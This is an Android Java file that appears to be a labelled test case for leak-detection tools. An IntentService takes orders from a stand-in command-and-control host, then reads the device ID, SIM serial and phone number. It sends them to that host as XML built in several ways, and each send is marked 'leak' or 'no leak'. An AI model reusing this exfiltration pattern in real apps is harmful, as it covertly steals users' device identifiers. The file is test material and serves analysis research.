package robbers;

import android.app.IntentService;
import android.content.Intent;
import android.os.Build;
import android.telephony.TelephonyManager;
import java.io.InputStream;
import java.io.StringReader;
import java.io.StringWriter;
import java.net.HttpURLConnection;
import java.net.URL;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;
import org.xml.sax.InputSource;
import org.xmlpull.v1.XmlPullParser;
import org.xmlpull.v1.XmlSerializer;
import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.transform.Transformer;
import javax.xml.transform.TransformerFactory;
import javax.xml.transform.dom.DOMSource;
import javax.xml.transform.stream.StreamResult;

/** Orders and answers in XML, read and written in three ways. */
public class Xml extends IntentService {
    public Xml() {
        super("xml");
    }

    protected void onHandleIntent(Intent intent) {
        try {
            InputStream in = new URL("http://c2.example.invalid/o.xml").openStream();
            XmlPullParser parser = android.util.Xml.newPullParser();
            parser.setInput(in, null);
            for (int event = parser.getEventType(); event != XmlPullParser.END_DOCUMENT; event = parser.next()) {
                if (event != XmlPullParser.START_TAG) {
                    continue;
                }
                TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
                if ("id".equals(parser.getName())) {
                    byText(phone.getDeviceId());
                } else if ("sim".equals(parser.getName())) {
                    byTree(phone.getSimSerialNumber());
                } else if ("number".equals(parser.getName())) {
                    byWriter(phone.getLine1Number());
                } else {
                    byText2(parser.getAttributeValue(null, "x") + Build.VERSION.SDK_INT);
                }
            }
        } catch (Exception e) {
            stopSelf();
        }
    }

    private void byText(String id) throws Exception {
        post1("<r><id>" + id.replace("&", "&amp;") + "</id></r>");
    }

    private void byText2(String what) throws Exception {
        post2("<r><x>" + what + "</x></r>");
    }

    private void byTree(String serial) throws Exception {
        Document tree = DocumentBuilderFactory.newInstance().newDocumentBuilder().newDocument();
        Element root = tree.createElement("r");
        tree.appendChild(root);
        Element sim = tree.createElement("sim");
        sim.appendChild(tree.createTextNode(serial));
        sim.setAttribute("v", "1");
        root.appendChild(sim);
        StringWriter text = new StringWriter();
        Transformer writer = TransformerFactory.newInstance().newTransformer();
        writer.transform(new DOMSource(tree), new StreamResult(text));
        post3(text.toString());
        Document answer = DocumentBuilderFactory.newInstance().newDocumentBuilder().parse(new InputSource(new StringReader("<a><b>c</b></a>")));
        NodeList all = answer.getElementsByTagName("b");
        post2(all.item(0).getTextContent());
    }

    private void byWriter(String number) throws Exception {
        XmlSerializer out = android.util.Xml.newSerializer();
        StringWriter text = new StringWriter();
        out.setOutput(text);
        out.startDocument("UTF-8", true);
        out.startTag("", "n").attribute("", "k", "own").text(number).endTag("", "n");
        out.endDocument();
        post4(text.toString());
    }

    private HttpURLConnection line() throws Exception {
        HttpURLConnection c = (HttpURLConnection) new URL("http://c2.example.invalid/a").openConnection();
        c.setDoOutput(true);
        c.setChunkedStreamingMode(0);
        return c;
    }

    private void post1(String text) throws Exception {
        line().getOutputStream().write(text.getBytes("UTF-8")); // leak
    }

    private void post2(String text) throws Exception {
        line().getOutputStream().write(text.getBytes("UTF-8")); // no leak
    }

    private void post3(String text) throws Exception {
        line().getOutputStream().write(text.getBytes("UTF-8")); // leak
    }

    private void post4(String text) throws Exception {
        line().getOutputStream().write(text.getBytes("UTF-8")); // leak
    }
}
